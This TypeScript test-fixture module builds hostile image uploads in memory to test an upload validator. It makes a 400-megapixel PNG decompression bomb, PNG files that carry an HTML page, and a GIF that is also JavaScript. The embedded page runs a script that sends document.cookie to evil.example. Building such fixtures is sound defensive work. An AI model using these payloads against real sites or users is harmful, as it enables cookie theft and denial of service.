import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';

/**
 * Pictures an attacker or a broken upload sends: each is what a decoder alone would take (or nearly),
 * built in memory so the tests need no fixture files.
 */

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** A genuine PNG of one colour, as sharp writes it. */
export function plainPng(width = 64, height = 48): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: { r: 40, g: 150, b: 110 } } })
    .png()
    .toBuffer();
}

let huge: Buffer | undefined;

/**
 * A whole, valid 20000x20000 (400-megapixel) black PNG of about 50 KB: one bit a pixel, every row
 * zero, which deflate squeezes a thousandfold. Decoded it would take over a gigabyte.
 */
export function hugePng(): Buffer {
  if (huge) return huge;
  const side = 20_000;
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header[8] = 1; // bit depth
  header[9] = 0; // greyscale
  const rows = Buffer.alloc(side * (1 + side / 8));
  huge = Buffer.concat([
    PNG_SIGNATURE,
    pngChunk('IHDR', header),
    pngChunk('IDAT', deflateSync(rows)),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
  return huge;
}

const PAGE = '<html><body><script>fetch("https://evil.example/?c=" + document.cookie)</script></body></html>';

/**
 * The opening of a PNG (its signature and IHDR header chunk), then an HTML page instead of pixels:
 * sniffed as a PNG by its first bytes, shown as a page by anything that sniffs harder.
 */
export function pngSignatureThenHtml(): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(1, 0);
  header.writeUInt32BE(1, 4);
  header[8] = 8; // bit depth
  header[9] = 2; // RGB
  return Buffer.concat([PNG_SIGNATURE, pngChunk('IHDR', header), Buffer.from(PAGE)]);
}

/** A whole PNG with an HTML page after its IEND: every decoder shows the picture and ignores the rest. */
export async function pngThenHtml(): Promise<Buffer> {
  return Buffer.concat([await plainPng(), Buffer.from(PAGE)]);
}

/** A whole PNG carrying a page in a tEXt chunk before its IEND. */
export async function pngWithHtmlText(): Promise<Buffer> {
  const png = await plainPng();
  const text = pngChunk('tEXt', Buffer.from(`Comment\0${PAGE}`, 'latin1'));
  return Buffer.concat([png.subarray(0, png.length - 12), text, png.subarray(png.length - 12)]);
}

/** A PNG cut off before its IEND chunk, as an interrupted transfer leaves it: libspng draws it anyway. */
export async function truncatedPng(): Promise<Buffer> {
  const png = await plainPng();
  return png.subarray(0, png.length - 12);
}

/**
 * A GIF that is also JavaScript: its width (10799) is written '/*', opening a comment that the script
 * after the GIF's trailer closes. As a GIF it decodes; as a script it runs alert(document.cookie).
 */
export async function gifJavaScriptPolyglot(): Promise<Buffer> {
  const gif = await sharp({ create: { width: 0x2a2f, height: 1, channels: 3, background: '#fff' } })
    .gif()
    .toBuffer();
  return Buffer.concat([gif, Buffer.from('*/=alert(document.cookie);//')]);
}
